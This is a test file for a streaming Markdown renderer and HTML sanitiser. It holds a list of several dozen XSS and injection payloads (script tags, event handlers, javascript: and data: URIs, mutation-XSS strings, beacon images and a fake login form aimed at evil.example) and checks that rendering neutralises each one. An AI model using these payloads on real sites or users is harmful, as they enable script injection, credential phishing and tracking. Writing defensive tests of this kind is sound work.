import { describe, expect, it } from 'vitest';

import { MarkdownBlocks } from './markdown';
import { sanitise } from './sanitise';

const render = (text: string): string => new MarkdownBlocks().render(text, true).join('');

const HOSTILE = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/beacon.gif">',
  '<picture><source srcset="https://evil.example/beacon.webp"></picture>',
  '![beacon](https://evil.example/beacon.gif)',
  '![beacon][b]\n\n[b]: https://evil.example/beacon.gif',
  '[![nested](https://evil.example/beacon.gif)](https://evil.example)',
  '> - **![deep](https://evil.example/beacon.gif "*title*")**',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://evil.example/a.png)',
  '![x](https://evil.example/a.png"onerror="alert(1))',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](//evil.example/protocol-relative)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '**[*x*](javascript:alert(1))** ~~[`x`](javascript:alert(1))~~',
  '> > - [ ] 1. [x](javascript:alert(1)) <svg/onload=alert(1)>',
  '| a |\n| - |\n| [x](javascript:alert(1)) <img src=x onerror=alert(1)> |',
  '# <svg onload=alert(1)> [x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><image href="https://evil.example/beacon.svg"/></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video src="https://evil.example/v.mp4" autoplay onerror=alert(1)></video>',
  '<audio src="https://evil.example/a.mp3"></audio>',
  '<div style="background:url(https://evil.example/b.gif)">x</div>',
  '<p style="position:fixed;inset:0">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '```"><script>alert(1)</script>\ncode\n```',
  '```js onload=alert(1)\ncode\n```',
  '`<script>alert(1)</script>`',
  '<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)}',
];

const FORBIDDEN =
  'script,img,picture,source,svg,math,iframe,object,embed,form,input,button,style,link,meta,base,video,audio,' +
  'details,template,x';

function expectHarmless(html: string): void {
  const page = document.implementation.createHTMLDocument();
  page.body.innerHTML = html;
  expect([...page.body.querySelectorAll(FORBIDDEN)].map((element) => element.outerHTML)).toEqual([]);
  for (const element of page.body.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name).toMatch(/^(href|title|align|start|class|rel|target)$/);
      if (name === 'href') {
        expect(value).toMatch(/^(https?:|mailto:)/i);
      }
    }
  }
}

describe('hostile text', () => {
  it.each(HOSTILE)('is harmless as Markdown: %s', (payload) => {
    expectHarmless(render(payload));
  });

  it.each(HOSTILE)('is harmless at every length while it streams: %s', (payload) => {
    const growing = new MarkdownBlocks();
    for (let end = 1; end <= payload.length; end++) {
      expectHarmless(growing.render(payload.slice(0, end)).join(''));
    }
  });

  it.each(HOSTILE)('is harmless when markup reaches the sanitiser: %s', (payload) => {
    expectHarmless(sanitise(payload));
  });

  it.each([
    ['quotes in quotes', '> '.repeat(50_000) + 'a'],
    ['one endless line of emphasis', '**a'.repeat(33_000)],
    ['brackets', '['.repeat(100_000)],
    ['lists in lists', Array.from({ length: 200 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join('\n')],
  ])('is shown whatever its shape: %s', (_name, text) => {
    const html = render(text);
    expectHarmless(html);
    expect(html).toContain(text.slice(-1));
  });

  it('keeps markup readable as text', () => {
    const element = document.createElement('div');
    element.innerHTML = render('before <script>alert(1)</script> after');
    expect(element.textContent).toContain('<script>alert(1)</script>');
  });
});

describe('Markdown', () => {
  it('opens links apart from this page', () => {
    const html = render('[docs](https://example.org/a?b=1&c=2) and [mail](mailto:a@example.org)');
    expect(html.match(/rel="noopener noreferrer nofollow"/g)).toHaveLength(2);
    expect(html.match(/target="_blank"/g)).toHaveLength(2);
  });

  it('turns a remote image into a link', () => {
    expect(render('![a cat](https://example.org/cat.png)')).toContain('href="https://example.org/cat.png"');
  });

  it('writes lists, tables, code and task lists', () => {
    expect(render('1. a\n2. b')).toContain('<ol>');
    expect(render('| a | b |\n| - | -: |\n| 1 | 2 |')).toContain('<td align="right">2</td>');
    expect(render('```python\nprint(1 < 2)\n```')).toContain('<code class="language-python">print(1 &lt; 2)');
    expect(render('- [x] done\n- [ ] open')).toMatch(/<li class="task">☑ done[\s\S]*<li class="task">☐ open/);
  });

  it('puts headings below the heading of the page', () => {
    expect(render('# One\n\n###### Six *x*')).toBe('<h2>One</h2>\n<h6>Six <em>x</em></h6>\n');
  });

  it('drops classes that it did not write', () => {
    expect(sanitise('<span class="button primary">x</span>')).toBe('<span>x</span>');
  });
});

const DOCUMENT = `# Title

Some *words* and \`code\` in a line
and another

    indented

- one
- two
  - nested

  a paragraph of the list

1. first

2. second

> quoted
lazy

\`\`\`js
let a = 1;

let b = 2;
\`\`\`

| a | b |
| - | - |
| 1 | 2 |

Setext
------

para
- a list at once

***

<b>markup</b>

1.5 is a number

The end.
`;

describe('a text that grows', () => {
  it.each([1, 2, 3, 5, 7, 50])('has the blocks of the whole in the end, %i characters at a time', (step) => {
    const growing = new MarkdownBlocks();
    for (let end = 0; end < DOCUMENT.length; end += step) {
      growing.render(DOCUMENT.slice(0, end));
    }
    const whole = new MarkdownBlocks().render(DOCUMENT, true);
    expect(growing.render(DOCUMENT)).toEqual(whole);
    expect(growing.render(DOCUMENT, true)).toEqual(whole);
  });

  it('looks at every length as that beginning alone would', () => {
    const growing = new MarkdownBlocks();
    for (let end = 0; end <= DOCUMENT.length; end++) {
      const text = DOCUMENT.slice(0, end);
      expect(growing.render(text)).toEqual(new MarkdownBlocks().render(text));
    }
  });

  it('finds a link defined further down', () => {
    const text = 'See [the docs][1].\n\nMore.\n\nMore.\n\nMore.\n\n[1]: https://example.org\n\nMore.\n\nMore.\n\nEnd.';
    const growing = new MarkdownBlocks();
    for (let end = 0; end <= text.length; end += 4) {
      growing.render(text.slice(0, end));
    }
    expect(growing.render(text)[0]).toContain('href="https://example.org"');
  });

  it('takes CR and CRLF for line ends, also cut in two', () => {
    const text = '- a\r\n- b\r\n\r\nOne\r\n\r\nTwo\r\rThree\r\n\r\nFour';
    const growing = new MarkdownBlocks();
    for (let end = 0; end <= text.length; end++) {
      growing.render(text.slice(0, end));
    }
    expect(growing.render(text)).toEqual(new MarkdownBlocks().render(text.replace(/\r\n?/g, '\n'), true));
  });

  it('starts again when it is another text', () => {
    const blocks = new MarkdownBlocks();
    blocks.render('One.\n\nTwo.\n\nThree.\n\nFour.');
    expect(blocks.render('Other.')).toEqual(['<p>Other.</p>\n']);
  });
});
